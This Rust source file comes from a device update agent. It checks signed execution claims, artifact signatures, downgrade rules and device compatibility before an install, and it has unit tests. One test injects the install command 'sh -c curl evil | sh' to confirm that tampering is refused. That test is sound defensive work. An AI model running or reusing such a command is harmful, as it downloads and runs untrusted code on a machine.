//! What the agent checks before it lets an update near the device, all of it here so the rules
//! can be read (and tested) in one place: the server's signed claims for this execution, the
//! artifact's own signature, the bytes against both, and the version against what is installed.
//! Every refusal names its failure class, and none is ever retried.

use base64::{Engine, engine::general_purpose::STANDARD as B64};
use baton_proto::{
    api::{
        artifacts::{ArtifactSignature, statement},
        rollouts::FailureClass,
    },
    deployment::{DeployedArtifact, Deployment, ExecutionClaims, VerificationKey, install_line},
    inventory::Inventory,
    version,
};
use ed25519_dalek::{Signature, VerifyingKey};
use sha2::{Digest, Sha256};

/// A refusal: its class and the words for the operator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub class: FailureClass,
    pub detail: String,
}

fn refuse(class: FailureClass, detail: impl Into<String>) -> Refusal {
    Refusal { class, detail: detail.into() }
}

/// The keys the agent trusts: those configured on the device (`trusted_keys`) when there are
/// any — the server then cannot introduce a key — else those the server lists.
pub fn keys(configured: &[String], sent: &[VerificationKey]) -> Vec<(String, VerifyingKey)> {
    let parse = |b64: &str| -> Option<VerifyingKey> {
        let bytes: [u8; 32] = B64.decode(b64.trim()).ok()?.try_into().ok()?;
        VerifyingKey::from_bytes(&bytes).ok()
    };
    if configured.is_empty() {
        sent.iter().filter_map(|k| Some((k.key_id.clone(), parse(&k.public_key)?))).collect()
    } else {
        configured.iter().filter_map(|k| parse(k)).map(|key| (key_id(&key), key)).collect()
    }
}

/// A key's id as the server computes it: the first 8 bytes of the SHA-256 of the public key.
pub fn key_id(key: &VerifyingKey) -> String {
    Sha256::digest(key.as_bytes())[..baton_proto::api::artifacts::KEY_ID_BYTES]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn verify(keys: &[(String, VerifyingKey)], message: &[u8], sig: &ArtifactSignature) -> bool {
    let Some((_, key)) = keys.iter().find(|(id, _)| *id == sig.key_id) else { return false };
    let Some(bytes) = B64.decode(sig.signature.trim()).ok().and_then(|b| <[u8; 64]>::try_from(b).ok()) else {
        return false;
    };
    key.verify_strict(message, &Signature::from_bytes(&bytes)).is_ok()
}

/// The claims, checked: signed by a trusted key, for this device and this execution, about
/// this artifact, not expired.
pub fn claims(
    deployment: &Deployment,
    keys: &[(String, VerifyingKey)],
    device_id: &str,
    now_ms: i64,
) -> Result<ExecutionClaims, Refusal> {
    if !verify(keys, deployment.claims.as_bytes(), &deployment.claims_signature) {
        return Err(refuse(FailureClass::Integrity, "the execution claims are not signed by a key this device trusts"));
    }
    let claims = ExecutionClaims::parse(&deployment.claims).map_err(|e| refuse(FailureClass::Integrity, e))?;
    let a = &deployment.artifact;
    if claims.device_id != device_id || claims.execution_id != deployment.execution_id {
        return Err(refuse(FailureClass::Integrity, "the execution claims are for another device or execution"));
    }
    if claims.name != a.name || claims.version != a.version || claims.sha256 != a.sha256 || claims.size != a.size {
        return Err(refuse(FailureClass::Integrity, "the execution claims do not match the artifact sent"));
    }
    // Where and how to install is signed too: a path or command changed on the way is refused.
    if claims.install != install_line(&deployment.install) || claims.install_now != deployment.install_now {
        return Err(refuse(FailureClass::Integrity, "the install settings differ from what the server signed"));
    }
    if claims.expires_at <= now_ms {
        return Err(refuse(FailureClass::Expired, "the execution claims expired; the server sends fresh ones"));
    }
    Ok(claims)
}

/// The artifact's own signature, over its statement.
pub fn artifact_signature(a: &DeployedArtifact, keys: &[(String, VerifyingKey)]) -> Result<(), Refusal> {
    let Some(sig) = &a.signature else {
        return Err(refuse(FailureClass::Integrity, "the artifact is not signed"));
    };
    let text = statement(&a.name, &a.version, a.kind, a.size, &a.sha256);
    if verify(keys, &text, sig) {
        Ok(())
    } else {
        Err(refuse(
            FailureClass::Integrity,
            format!("the artifact's signature does not verify with key {}", sig.key_id),
        ))
    }
}

/// The version against the one installed: `Ok(true)` when it is installed already.
pub fn version_allowed(a: &DeployedArtifact, installed: Option<&str>, allow_downgrade: bool) -> Result<bool, Refusal> {
    match installed.map(|v| version::compare(&a.version, v)) {
        Some(std::cmp::Ordering::Equal) => Ok(true),
        Some(std::cmp::Ordering::Less) if !allow_downgrade => Err(refuse(
            FailureClass::Downgrade,
            format!(
                "{} {} is older than the installed {}; the rollout does not allow a downgrade",
                a.name,
                a.version,
                installed.unwrap_or_default()
            ),
        )),
        _ => Ok(false),
    }
}

/// The artifact's compatibility against the device, and its dependency against what is installed.
pub fn fits(
    a: &DeployedArtifact,
    inventory: &Inventory,
    installed: impl Fn(&str) -> Option<String>,
) -> Result<(), Refusal> {
    let c = &a.compatibility;
    let matches = |wanted: &[String], have: Option<&String>| {
        wanted.is_empty() || have.is_some_and(|h| wanted.iter().any(|w| w.eq_ignore_ascii_case(h)))
    };
    if !matches(&c.os, inventory.os_family.as_ref()) {
        return Err(refuse(
            FailureClass::Incompatible,
            format!(
                "for {}; this device runs {}",
                c.os.join(", "),
                inventory.os_family.as_deref().unwrap_or("an unknown OS")
            ),
        ));
    }
    if !matches(&c.arch, inventory.architecture.as_ref()) {
        return Err(refuse(
            FailureClass::Incompatible,
            format!(
                "for {}; this device is {}",
                c.arch.join(", "),
                inventory.architecture.as_deref().unwrap_or("of an unknown architecture")
            ),
        ));
    }
    if !matches(&c.models, inventory.model.as_ref()) {
        return Err(refuse(FailureClass::Incompatible, format!("for models {}", c.models.join(", "))));
    }
    if let Some(dep) = &a.depends {
        let have = installed(&dep.name);
        let ok = match &have {
            Some(v) => version::satisfies(v, &dep.versions).unwrap_or(false),
            None => false,
        };
        if !ok {
            return Err(refuse(
                FailureClass::Dependency,
                format!("needs {} {}; this device has {}", dep.name, dep.versions, have.as_deref().unwrap_or("none")),
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use baton_proto::api::artifacts::{ArtifactKind, Compatibility, Dependency};
    use ed25519_dalek::{Signer, SigningKey};

    use super::*;

    fn signed(key: &SigningKey, text: &[u8]) -> ArtifactSignature {
        ArtifactSignature { key_id: key_id(&key.verifying_key()), signature: B64.encode(key.sign(text).to_bytes()) }
    }

    fn deployment(key: &SigningKey, expires_at: i64) -> Deployment {
        let artifact = DeployedArtifact {
            name: "app".into(),
            version: "2.0".into(),
            kind: ArtifactKind::File,
            size: 3,
            sha256: "ab".repeat(32),
            signature: None,
            url: "/x".into(),
            compatibility: Compatibility::default(),
            depends: None,
        };
        let claims = ExecutionClaims {
            execution_id: "e1".into(),
            device_id: "d1".into(),
            name: "app".into(),
            version: "2.0".into(),
            sha256: "ab".repeat(32),
            size: 3,
            allow_downgrade: false,
            install: install_line(&Default::default()),
            install_now: true,
            expires_at,
        }
        .statement();
        Deployment {
            execution_id: "e1".into(),
            attempt: 1,
            claims_signature: signed(key, claims.as_bytes()),
            claims,
            artifact,
            install: Default::default(),
            install_now: true,
            keys: vec![VerificationKey {
                key_id: key_id(&key.verifying_key()),
                public_key: B64.encode(key.verifying_key().as_bytes()),
            }],
        }
    }

    #[test]
    fn claims_are_checked_for_key_device_artifact_and_time() {
        let key = SigningKey::from_bytes(&[7; 32]);
        let d = deployment(&key, 2_000);
        let trusted = keys(&[], &d.keys);
        assert!(claims(&d, &trusted, "d1", 1_000).is_ok());
        assert_eq!(claims(&d, &trusted, "d1", 2_000).map_err(|r| r.class), Err(FailureClass::Expired));
        assert_eq!(claims(&d, &trusted, "d2", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut other = d.clone();
        other.artifact.size = 4;
        assert_eq!(claims(&other, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut moved = d.clone();
        moved.install.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
        assert_eq!(claims(&moved, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut early = d.clone();
        early.install_now = false;
        assert_eq!(claims(&early, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        // A device configured with its own keys ignores the ones the server lists.
        let pinned = keys(&[B64.encode(SigningKey::from_bytes(&[9; 32]).verifying_key().as_bytes())], &d.keys);
        assert_eq!(claims(&d, &pinned, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
    }

    #[test]
    fn versions_and_fit_are_judged_against_the_device() {
        let key = SigningKey::from_bytes(&[7; 32]);
        let mut a = deployment(&key, 1).artifact;
        assert_eq!(version_allowed(&a, Some("2.0"), false), Ok(true));
        assert_eq!(version_allowed(&a, Some("1.9"), false), Ok(false));
        assert_eq!(version_allowed(&a, Some("2.1"), false).map_err(|r| r.class), Err(FailureClass::Downgrade));
        assert_eq!(version_allowed(&a, Some("2.1"), true), Ok(false));
        let linux =
            Inventory { os_family: Some("linux".into()), architecture: Some("x86_64".into()), ..Inventory::default() };
        a.compatibility.os = vec!["windows".into()];
        assert_eq!(fits(&a, &linux, |_| None).map_err(|r| r.class), Err(FailureClass::Incompatible));
        a.compatibility.os = vec!["Linux".into()];
        a.depends = Some(Dependency { name: "runtime".into(), versions: ">=2".into() });
        assert_eq!(fits(&a, &linux, |_| Some("1.5".into())).map_err(|r| r.class), Err(FailureClass::Dependency));
        assert!(fits(&a, &linux, |_| Some("2.2".into())).is_ok());
    }
}
